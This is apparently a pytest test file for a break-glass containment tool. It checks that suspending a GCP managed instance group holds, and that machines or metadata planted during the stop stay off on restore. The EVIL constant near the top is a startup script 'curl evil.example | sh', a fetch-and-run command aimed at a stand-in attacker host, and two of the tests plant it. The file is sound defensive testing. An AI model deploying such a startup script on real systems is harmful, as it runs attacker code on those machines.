"""Whoever controls the agent works on its managed group: nothing stays on, and nothing planted comes back."""

from __future__ import annotations

from typing import Any

import pytest

from breakglass.canon import Json
from breakglass.errors import Transient, Unsettled
from breakglass.model.action import Verdict
from breakglass.provider import Outcome, Proposal
from providers.gcp.tests import rig_compute as compute
from providers.gcp.tests.rig_gcp import Rig, close, proposal, undo

HOLD, SUSPEND = "gcp.compute.hold_group", "gcp.compute.suspend_group"
EVIL = {"items": [{"key": "startup-script", "value": "curl evil.example | sh"}]}


def stopped(rig: Rig, group: str) -> list[tuple[Any, Proposal, dict[str, Json]]]:
    """Plan, then hold the group and suspend its instances, the platform at work all the while."""
    provider = rig.provider(instance_groups=[group])
    steps = [(provider.actions[name], proposal(provider, name)) for name in (HOLD, SUSPEND)]
    return [(action, step, closed(rig, action, step)) for action, step in steps]


def closed(rig: Rig, action: Any, step: Proposal) -> dict[str, Json]:  # noqa: ANN401 - an action
    """Close a step, the platform at work all the while."""
    rig.control("platform", {"on": True})
    prior, _ = close(action, step.target, rounds=20)
    rig.control("platform", {"on": False})
    return prior


def ticks(rig: Rig) -> None:
    """Let the platform work for a moment."""
    rig.control("platform", {"on": False, "ticks": 3})


def on_group(rig: Rig, verb: str, name: str = "bots", **more: Any) -> None:  # noqa: ANN401 - fields of the API
    """Do something to a group as whoever has rights on it."""
    asked = {"project": rig.project, "zone": compute.ZONE, "instance_group_manager": name, **more}
    rig.admin.operate("instance_groups", verb, asked)


def patched(rig: Rig, **body: Any) -> None:  # noqa: ANN401 - as above
    """Change a group."""
    on_group(rig, "patch", instance_group_manager_resource=body)


def on_members(rig: Rig, verb: str, names: list[str]) -> None:
    """Do something to members through their group."""
    urls = [f"projects/{rig.project}/zones/{compute.ZONE}/instances/{name}" for name in names]
    body: dict[str, Any] = {f"instance_group_managers_{verb}_instances_request_resource": {"instances": urls}}
    on_group(rig, f"{verb}_instances", **body)


def created(rig: Rig, name: str) -> None:
    """Have the group make a member of this name."""
    body = {"instances": [{"name": name}]}
    on_group(rig, "create_instances", instance_group_managers_create_instances_request_resource=body)


def planted(rig: Rig) -> str:
    """Make a template with a start-up script and an account of its own; return its name."""
    properties = {"network_interfaces": [{"network": "default"}], "metadata": EVIL}
    template = {"name": "planted", "properties": properties}
    asked = {"project": rig.project, "instance_template_resource": template}
    rig.admin.operate("instance_templates", "insert", asked)
    return f"projects/{rig.project}/global/instanceTemplates/planted"


def laid(rig: Rig, **more: Any) -> str:  # noqa: ANN401 - as above
    """Make a network and a group."""
    compute.network(rig)
    return compute.group(rig, "bots", rig.account("bot"), **more)


def first(rig: Rig, group: str) -> str:
    """Return one member."""
    return min(compute.members(rig, group))


@pytest.mark.parametrize("during", [True, False])
def test_a_member_that_is_resumed_by_itself_is_suspended_by_itself(rig: Rig, during: bool) -> None:  # noqa: FBT001 - a case
    """Its group has it suspended and does nothing about it; in peacetime as well as during the stop."""
    group = laid(rig)
    name = first(rig, group)
    before = rig.control("state")
    if during:
        (_, (action, step, prior)) = stopped(rig, group)
    else:
        on_members(rig, "suspend", [name])
        ticks(rig)
    compute.do(rig, "resume", f"{compute.ZONE}/{name}")
    compute.until(lambda: compute.members(rig, group)[name] == "RUNNING")
    if during:
        assert action.judge(step.target, action.observe(step.target)).verdict is Verdict.NOT_CONTAINED
        closed(rig, action, step)
    else:
        (_, (action, step, prior)) = stopped(rig, group)

    assert set(compute.members(rig, group).values()) == {"SUSPENDED"}
    assert set(undo(action, step.target, prior).objects.values()) == {Outcome.RESTORED}
    ticks(rig)
    assert set(compute.members(rig, group).values()) == {"RUNNING"}
    assert not during or rig.control("state")["compute_instances"] == before["compute_instances"]


def test_a_stopped_member_that_is_started_by_itself_is_turned_off_again(rig: Rig) -> None:
    """One that cannot be suspended is stopped, by itself as well."""
    group = laid(rig, size=1, properties={"guest_accelerators": [{"accelerator_count": 1}]})
    (_, (action, step, _)) = stopped(rig, group)
    compute.do(rig, "start", f"{compute.ZONE}/{first(rig, group)}")

    closed(rig, action, step)

    assert [*compute.members(rig, group).values()] == ["TERMINATED"]


def test_a_member_whose_guest_refuses_is_stopped_by_itself(rig: Rig) -> None:
    """Its suspension fails after it was accepted."""
    group = laid(rig, size=1, properties={"labels": {"sandbox-suspend-fails": "yes"}})
    (_, (action, step, _)) = stopped(rig, group)
    compute.do(rig, "start", f"{compute.ZONE}/{first(rig, group)}")

    closed(rig, action, step)

    assert [*compute.members(rig, group).values()] == ["TERMINATED"]


def test_a_member_that_is_abandoned_during_the_stop_does_not_get_away(rig: Rig) -> None:
    """The plan names it; it is suspended as an instance like others, and comes back as one."""
    group = laid(rig)
    name = first(rig, group)
    provider = rig.provider(instance_groups=[group])
    step, action = proposal(provider, SUSPEND), provider.actions[SUSPEND]
    on_members(rig, "abandon", [name])

    prior = closed(rig, action, step)

    assert compute.status(rig, f"{compute.ZONE}/{name}") == "SUSPENDED"
    assert undo(action, step.target, prior).objects[f"{compute.ZONE}/{name}"] is Outcome.RESTORED


def test_one_member_that_cannot_be_called_keeps_no_other_on(rig: Rig) -> None:
    """Its failure is told when all were tried."""
    group = laid(rig, size=3)
    (_, (action, step, _)) = stopped(rig, group)
    for name in compute.members(rig, group):
        compute.do(rig, "resume", f"{compute.ZONE}/{name}")
    compute.until(lambda: set(compute.members(rig, group).values()) == {"RUNNING"})
    fault = {"method": "compute.instances.suspend", "code": "UNAVAILABLE", "times": 1}
    rig.control("faults", {"faults": [fault]})

    with pytest.raises(Transient):
        action.apply(step.target, action.observe(step.target), "token")

    rig.control("faults", {"faults": []})
    compute.until(lambda: [*compute.members(rig, group).values()].count("SUSPENDED") == 2)


def test_what_the_plan_does_not_name_stays_off_and_is_said(rig: Rig) -> None:
    """Made during the stop from a template of the agent's: the group's size counts only what came back."""
    group = laid(rig, size=1)
    (name,) = compute.members(rig, group)
    provider = rig.provider(instance_groups=[group])
    step, action = proposal(provider, SUSPEND), provider.actions[SUSPEND]
    patched(rig, instance_template=planted(rig))
    created(rig, "evil")
    prior = closed(rig, action, step)

    undone = undo(action, step.target, prior)

    assert undone.objects == {
        f"{compute.ZONE}/{name}": Outcome.RESTORED,
        f"{compute.ZONE}/evil": Outcome.ENDED,
    }
    assert "europe-west1-b/evil" in undone.reason
    assert "resumeInstances" in undone.reason
    ticks(rig)
    assert compute.members(rig, group) == {name: "RUNNING", "evil": "SUSPENDED"}
    asked = {"project": rig.project, "zone": compute.ZONE, "instance_group_manager": "bots"}
    manager = rig.admin.call("instance_groups", "get", asked)
    assert (manager.target_size, manager.target_suspended_size) == (1, 1)


def test_a_name_that_was_given_again_after_planning_is_another_machine(rig: Rig) -> None:
    """The plan keeps its id: it stays off."""
    group = laid(rig, size=1)
    (name,) = compute.members(rig, group)
    provider = rig.provider(instance_groups=[group])
    step, action = proposal(provider, SUSPEND), provider.actions[SUSPEND]
    on_members(rig, "delete", [name])
    patched(rig, instance_template=planted(rig))
    created(rig, name)
    prior = closed(rig, action, step)

    assert undo(action, step.target, prior).objects == {f"{compute.ZONE}/{name}": Outcome.ENDED}
    assert compute.members(rig, group) == {name: "SUSPENDED"}


def test_a_member_whose_metadata_was_changed_while_it_was_off_is_not_started(rig: Rig) -> None:
    """A start-up script or a key to log in with; the others come back."""
    group = laid(rig)
    (_, (action, step, prior)) = stopped(rig, group)
    name, other = sorted(compute.members(rig, group))
    compute.do(rig, "set_metadata", f"{compute.ZONE}/{name}", metadata_resource=EVIL)

    undone = undo(action, step.target, prior)

    assert undone.objects == {
        f"{compute.ZONE}/{name}": Outcome.DRIFTED,
        f"{compute.ZONE}/{other}": Outcome.RESTORED,
    }
    ticks(rig)
    assert compute.members(rig, group) == {name: "SUSPENDED", other: "RUNNING"}


def test_a_member_that_was_given_another_account_while_it_was_off_is_not_started(rig: Rig) -> None:
    """It would act as somebody whom nobody stopped."""
    group = laid(rig, size=1, properties={"guest_accelerators": [{"accelerator_count": 1}]})
    (_, (action, step, prior)) = stopped(rig, group)
    name = f"{compute.ZONE}/{first(rig, group)}"
    account = {"email": rig.account("payments"), "scopes": []}
    compute.do(rig, "set_service_account", name, instances_set_service_account_request_resource=account)

    assert undo(action, step.target, prior).objects == {name: Outcome.DRIFTED}


@pytest.mark.parametrize("when", ["stop", "restore"])
def test_a_member_that_cannot_be_read_is_suspended_and_stays_off(rig: Rig, when: str) -> None:
    """Nobody knows whether something was planted: at the stop for good, at the restore until it is read."""
    group = laid(rig, size=1)
    unread = {"faults": [{"method": "compute.instances.[gl]*", "code": "INTERNAL"}]}
    provider = rig.provider(instance_groups=[group])
    step, action = proposal(provider, SUSPEND), provider.actions[SUSPEND]
    if when == "stop":
        rig.control("faults", unread)
    prior = closed(rig, action, step)
    rig.control("faults", {"faults": []} if when == "stop" else unread)

    if when == "stop":
        assert set(undo(action, step.target, prior).objects.values()) == {Outcome.DRIFTED}
    else:
        with pytest.raises(Unsettled):
            undo(action, step.target, prior)
    assert set(compute.members(rig, group).values()) == {"SUSPENDED"}
    if when == "restore":
        rig.control("faults", {"faults": []})
        assert set(undo(action, step.target, prior).objects.values()) == {Outcome.RESTORED}


def test_many_members_are_read_in_one_call(rig: Rig) -> None:
    """Of a thousand nobody waits for a thousand calls; one by one only what the list did not tell."""
    group = laid(rig, size=12)
    provider = rig.provider(instance_groups=[group])
    step, action = proposal(provider, SUSPEND), provider.actions[SUSPEND]
    since = len(rig.control("calls"))

    action.observe(step.target)

    made = [one["method"] for one in rig.control("calls")[since:] if one["method"].startswith("compute.")]
    assert made == ["compute.instanceGroupManagers.listManagedInstances", "compute.instances.list"]


def test_a_journal_from_before_these_facts_were_kept_brings_members_back(rig: Rig) -> None:
    """What it does not hold is not compared."""
    group = laid(rig)
    held, members = stopped(rig, group)
    old = {
        name: {key: seen[key] for key in ("id", "status", "target")}  # type: ignore[index, call-overload]  # an object of JSON
        for name, seen in members[2].items()
    }
    policies = {
        key: {name: value for name, value in seen.items() if name not in ("made_of", "configs", "policy")}  # type: ignore[union-attr]  # as above
        for key, seen in held[2].items()
    }

    assert set(undo(members[0], members[1].target, old).objects.values()) == {Outcome.RESTORED}
    assert set(undo(held[0], held[1].target, policies).objects.values()) == {Outcome.RESTORED}
